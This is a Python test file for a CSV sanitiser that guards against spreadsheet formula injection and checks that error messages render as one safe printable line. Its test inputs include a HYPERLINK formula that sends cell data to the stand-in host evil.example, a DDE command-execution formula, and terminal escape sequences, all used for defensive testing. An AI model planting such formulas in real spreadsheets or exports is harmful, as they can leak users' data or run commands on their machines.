"""Formula-injection protection, and problems that render as one safe line."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from oathdesk.formats.cells import safe_cell, safe_row
from oathdesk.formats.problems import Code, Problem, one_line, sort_problems


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formulas_get_an_apostrophe(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["helga@contoso.com", "0012345", "JBSWY3DPEHPK3PXP", "30", "Token2", "C202", "", "a=b", "'x"],
)
def test_legitimate_values_are_unchanged(value: str) -> None:
    assert safe_cell(value) == value


@given(st.lists(st.text(max_size=12), max_size=6))
def test_no_written_cell_starts_a_formula(values: list[str]) -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow(safe_row(values))
    (read_back,) = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    for original, cell in zip(values, read_back, strict=False):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert cell in (original, "'" + original)


def test_render_is_one_complete_line() -> None:
    problem = Problem(
        4, "secret key", "the secret key looks like hex", fix="convert it", code=Code.SECRET_HEX
    )
    assert problem.render("order.csv") == (
        "order.csv:4: column 'secret key': the secret key looks like hex; convert it"
    )
    assert Problem(0, "", "the file is empty").render("x.csv") == "x.csv: the file is empty"
    assert problem.as_dict() == {
        "line": 4,
        "column": "secret key",
        "code": "secret-hex",
        "message": "the secret key looks like hex",
        "fix": "convert it",
    }


def test_hostile_text_cannot_add_lines_or_escape_sequences() -> None:
    # a serial taken from a file, quoted by a caller in its message
    hostile = Problem(2, "serial\nnumber", "serial 1\r\n\x1b[2Jfake: all good", fix="\x07")
    rendered = hostile.render("evil\n.csv")
    assert "\n" not in rendered
    assert "\r" not in rendered
    assert "\x1b" not in rendered
    assert rendered.isprintable()
    assert "\\x1b[2J" in rendered
    assert len(one_line("x" * 5000)) == 200


def test_sort_puts_whole_file_problems_first() -> None:
    problems = [Problem(3, "b", "x"), Problem(0, "", "y"), Problem(3, "a", "z")]
    assert [(p.line, p.column) for p in sort_problems(problems)] == [(0, ""), (3, "a"), (3, "b")]
